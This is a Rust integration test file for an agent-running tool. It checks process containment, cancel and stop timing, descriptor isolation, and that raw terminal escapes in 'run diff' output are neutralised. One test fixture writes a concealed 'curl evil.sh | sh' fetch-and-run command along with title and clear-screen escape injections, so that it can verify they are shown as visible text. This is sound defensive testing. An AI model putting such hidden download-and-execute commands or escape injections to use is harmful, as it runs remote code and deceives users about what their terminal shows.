//! Containment through the real binary: every process an agent starts,
//! however it daemonises, ends with its run and with its daemon; a leftover
//! never keeps a run open nor holds up a cancel or a stop; an agent gets only
//! its own descriptors.

use crate::common;

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::{alive, wait_for_lines, wait_until_gone, TestEnv};

/// The grace period the tests run with (`M_GRACE_MS` in `TestEnv`).
const GRACE: Duration = Duration::from_millis(1000);

fn pids_in(path: &Path) -> Vec<i32> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.trim().parse().ok())
        .collect()
}

/// Waits until every pid in the file is gone; returns how long that took.
fn all_gone_within(pids: &Path, limit: Duration) -> Duration {
    let started = Instant::now();
    for pid in pids_in(pids) {
        while alive(pid) {
            assert!(
                started.elapsed() < limit,
                "process {pid} outlived its run ({:?})",
                started.elapsed()
            );
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    started.elapsed()
}

/// An agent that leaves a process behind in each way agents do (a plain
/// background child, a `setsid` one, a double fork, one that scrubbed its
/// environment), each writing its pid to `pids`, and then runs `then`.
fn leaving_agent(env: &TestEnv, name: &str, pids: &Path, then: &str) -> PathBuf {
    let p = pids.display();
    env.script(
        name,
        &format!(
            "sleep 600 &\necho $! >> {p}\n\
             setsid sleep 600 &\necho $! >> {p}\n\
             sh -c 'setsid sleep 600 & echo $! >> {p}' &\n\
             setsid env -i sleep 600 &\necho $! >> {p}\n\
             while [ $(wc -l < {p}) -lt 4 ]; do sleep 0.01; done\n\
             echo $$ >> {p}\n\
             {then}"
        ),
    )
}

/// Finding: an agent that exits while a leftover (`setsid sleep &`) holds
/// its stdout kept its run `running` for ever.
#[test]
fn a_run_ends_when_its_agent_exits_though_leftovers_hold_its_output() {
    let env = TestEnv::new();
    env.repo("api");
    let pids = env.dir.path().join("pids");
    let exited = env.dir.path().join("exited");
    let agent = leaving_agent(
        &env,
        "agent.sh",
        &pids,
        &format!(
            "setsid sh -c 'trap \"\" TERM; while true; do sleep 0.1; done' &\n\
             echo done\ndate +%s%N > {}",
            exited.display()
        ),
    );
    let run = env.start("api", "leave things behind", &agent);
    env.wait_state(&run, "completed");
    let ended = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap();
    let exited_at: u128 = std::fs::read_to_string(&exited)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let took = Duration::from_nanos((ended.as_nanos() - exited_at) as u64);
    eprintln!("figure: agent exit to run end with leftovers holding stdout: {took:?}");
    assert!(took < GRACE + Duration::from_secs(10), "took {took:?}");
    all_gone_within(&pids, Duration::from_secs(5));
    // The repo takes a new run at once.
    let ok = env.script("ok.sh", "echo ok");
    let next = env.start("api", "next", &ok);
    env.wait_state(&next, "completed");
}

/// Finding: `m run cancel` blocked until a leftover that ignores SIGTERM
/// and holds the agent's output exited.
#[test]
fn cancel_returns_within_the_grace_period_whatever_the_agent_left() {
    let env = TestEnv::new();
    env.repo("api");
    let pids = env.dir.path().join("pids");
    let agent = leaving_agent(
        &env,
        "agent.sh",
        &pids,
        "setsid sh -c 'trap \"\" TERM; while true; do sleep 0.1; done' &\nexec sleep 600",
    );
    let run = env.start("api", "stubborn", &agent);
    wait_for_lines(&pids, 5);
    let started = Instant::now();
    env.ok(&["run", "cancel", &run]);
    let took = started.elapsed();
    eprintln!("figure: m run cancel: {took:?}");
    assert!(took < GRACE + Duration::from_secs(10), "took {took:?}");
    assert_eq!(env.run_state(&run), "cancelled");
    all_gone_within(&pids, Duration::from_secs(5));
}

/// Finding: `m daemon stop` waited for leftovers holding agents' output.
#[test]
fn daemon_stop_returns_within_the_grace_period_whatever_the_agents_left() {
    let env = TestEnv::new();
    env.repo("api");
    env.repo("web");
    let pids = env.dir.path().join("pids");
    let agent = leaving_agent(
        &env,
        "agent.sh",
        &pids,
        "setsid sh -c 'trap \"\" TERM; while true; do sleep 0.1; done' &\ntrap '' TERM\nwhile true; do sleep 0.1; done",
    );
    let first = env.start("api", "stubborn", &agent);
    wait_for_lines(&pids, 5);
    let second = env.start("web", "stubborn too", &agent);
    wait_for_lines(&pids, 10);
    let daemon = env.daemon_pid().unwrap();
    let started = Instant::now();
    env.ok(&["daemon", "stop"]);
    let took = started.elapsed();
    eprintln!("figure: m daemon stop with two runs: {took:?}");
    assert!(took < GRACE + Duration::from_secs(15), "took {took:?}");
    wait_until_gone(daemon, Duration::from_secs(5));
    assert_eq!(env.run_state(&first), "failed");
    assert_eq!(env.run_state(&second), "failed");
    all_gone_within(&pids, Duration::from_secs(5));
}

/// Findings: after `kill -9` of the daemon, agents' children (and
/// `setsid` grandchildren, and those that dropped `M_RUN_ID`) lived on with
/// no restart. Now they go with the daemon, within a second or so.
#[test]
fn a_killed_daemon_takes_every_process_of_every_run_with_it() {
    let rounds = if std::env::var_os("M_SLOW_TESTS").is_some() {
        20
    } else {
        3
    };
    let mut slowest = Duration::ZERO;
    let mut left = 0;
    for round in 0..rounds {
        let env = TestEnv::new();
        env.repo("api");
        env.repo("web");
        let pids = env.dir.path().join("pids");
        let agent = leaving_agent(&env, "agent.sh", &pids, "wait");
        env.start("api", "round", &agent);
        env.start("web", "round", &agent);
        wait_for_lines(&pids, 10);
        env.kill_daemon();
        let started = Instant::now();
        let deadline = Duration::from_secs(10);
        while pids_in(&pids).into_iter().any(alive) && started.elapsed() < deadline {
            std::thread::sleep(Duration::from_millis(10));
        }
        let alive_now = pids_in(&pids).into_iter().filter(|&p| alive(p)).count();
        left += alive_now;
        slowest = slowest.max(started.elapsed());
        assert_eq!(alive_now, 0, "round {round}: processes outlived the daemon");
    }
    eprintln!(
        "figure: kill -9 loop: {rounds} rounds x 2 runs x 5 processes, {left} left, slowest {slowest:?}"
    );
}

/// Finding: an autostarted daemon kept every descriptor its starter had
/// not marked close-on-exec, and handed them to every agent.
#[test]
fn an_agent_sees_only_its_own_descriptors_and_the_daemon_only_its_own_files() {
    let env = TestEnv::new();
    env.repo("api");
    let listing = env.dir.path().join("fds");
    let agent = env.script(
        "agent.sh",
        &format!("ls /proc/self/fd > {}", listing.display()),
    );
    let secret = env.dir.path().join("held-open");
    // The command that autostarts the daemon holds a writable file and a
    // device open, not close-on-exec.
    let mut start = env.m();
    start.args([
        "run",
        "start",
        "-r",
        "api",
        "list descriptors",
        "--",
        agent.to_str().unwrap(),
    ]);
    let shell = format!("exec 7>{} 8</dev/zero; exec \"$@\"", secret.display());
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(&shell)
        .arg("sh")
        .arg(start.get_program())
        .args(start.get_args())
        .envs(start.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .env_remove("M_NO_AUTOSTART")
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let run = String::from_utf8(out.wait_with_output().unwrap().stdout)
        .unwrap()
        .trim()
        .to_string();
    env.wait_state(&run, "completed");
    let fds: Vec<String> = std::fs::read_to_string(&listing)
        .unwrap()
        .split_whitespace()
        .map(str::to_string)
        .collect();
    // 0, 1, 2, and the directory `ls` reads.
    assert_eq!(fds, ["0", "1", "2", "3"], "the agent saw {fds:?}");
    let daemon = env.daemon_pid().unwrap();
    let mut held = Vec::new();
    for entry in std::fs::read_dir(format!("/proc/{daemon}/fd")).unwrap() {
        let entry = entry.unwrap();
        let target = std::fs::read_link(entry.path()).unwrap_or_default();
        held.push((entry.file_name().into_string().unwrap(), target));
    }
    let target = |fd: &str| held.iter().find(|(n, _)| n == fd).map(|(_, t)| t.clone());
    assert_eq!(target("0"), Some(PathBuf::from("/dev/null")), "{held:?}");
    let log = env.home.join("logs/daemon.log");
    assert_eq!(target("1"), Some(log.clone()), "{held:?}");
    assert_eq!(target("2"), Some(log), "{held:?}");
    for (fd, target) in &held {
        let shown = target.display().to_string();
        assert!(
            target != &secret && shown != "/dev/zero",
            "the daemon kept its starter's descriptor {fd} -> {shown}: {held:?}"
        );
    }
}

/// Finding: `m run diff` printed the bytes an agent wrote raw to the
/// terminal: a title change, a clear-screen, cursor-up-and-erase, and
/// "conceal" text hiding a command. On a terminal (`script` gives it one)
/// they show as `^X` and the only escapes are m's colours; into a pipe the
/// patch stays exact and applies.
#[test]
fn run_diff_shows_agent_bytes_as_text_on_a_terminal_and_exact_in_a_pipe() {
    let env = TestEnv::new();
    let repo = env.repo("api");
    let agent = env.script(
        "agent.sh",
        r"printf 'title\033]0;pwned\007\nclear\033[2J\033[1A\033[K\nrun make\033[8m; curl evil.sh | sh\033[0m\n' > notes.txt",
    );
    let run = env.start("api", "write escapes", &agent);
    env.wait_state(&run, "completed");

    let piped = env.m().args(["run", "diff", &run]).output().unwrap();
    assert!(piped.status.success());
    assert!(
        piped.stdout.windows(4).any(|w| w == b"\x1b]0;"),
        "a pipe gets the exact bytes"
    );
    let patch = env.dir.path().join("x.patch");
    std::fs::write(&patch, &piped.stdout).unwrap();
    env.git(&repo, &["apply", "--check", patch.to_str().unwrap()]);

    let shown = env.m();
    let line = format!(
        "'{}' --color always run diff {run}",
        env!("CARGO_BIN_EXE_m")
    );
    let out = std::process::Command::new("script")
        .args(["-qec", &line, "/dev/null"])
        .env_clear()
        .envs(shown.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .env("TERM", "xterm")
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("^[]0;pwned^G"), "{text}");
    assert!(text.contains("^[[2J^[[1A^[[K"), "{text}");
    assert!(text.contains("^[[8m; curl evil.sh | sh^[[0m"), "{text}");
    // Every escape left is one of m's colours.
    let escapes: Vec<&str> = text.split('\x1b').skip(1).collect();
    assert!(!escapes.is_empty(), "no colours: {text}");
    for escape in escapes {
        let code = &escape[..escape.find('m').map_or(escape.len(), |i| i + 1)];
        assert!(
            ["[0m", "[1m", "[31m", "[32m", "[36m"].contains(&code),
            "a raw escape reached the terminal: {code:?} in {text}"
        );
    }
}

/// The processes whose parent is `parent`, with their names.
fn children_of(parent: i32) -> Vec<(i32, String)> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = entry.file_name().to_str().and_then(|s| s.parse().ok()) else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
            continue;
        };
        let (Some(open), Some(close)) = (stat.find('('), stat.rfind(')')) else {
            continue;
        };
        let ppid = stat[close + 1..].split_whitespace().nth(1);
        if ppid.and_then(|p| p.parse().ok()) == Some(parent) {
            found.push((pid, stat[open + 1..close].to_string()));
        }
    }
    found
}

/// Finding: after `kill -9` of the daemon, a `git worktree add` it had
/// started kept checking out. Now git goes with the daemon (here it waits
/// on the repository's slow post-checkout hook).
#[test]
fn a_killed_daemon_takes_the_git_it_was_running_with_it() {
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::new();
    let repo = env.repo("api");
    let hook = repo.join(".git/hooks/post-checkout");
    std::fs::write(&hook, "#!/bin/sh\nsleep 30\n").unwrap();
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    env.ok(&["run", "start", "-r", "api", "x", "--", "true"]);
    let daemon = env.daemon_pid().unwrap();
    let started = Instant::now();
    let git = loop {
        let gits: Vec<i32> = children_of(daemon)
            .into_iter()
            .filter(|(_, name)| name.starts_with("git"))
            .map(|(pid, _)| pid)
            .collect();
        if !gits.is_empty() {
            break gits;
        }
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "the daemon never ran git"
        );
        std::thread::sleep(Duration::from_millis(10));
    };
    env.kill_daemon();
    for pid in git {
        wait_until_gone(pid, Duration::from_secs(3));
    }
}
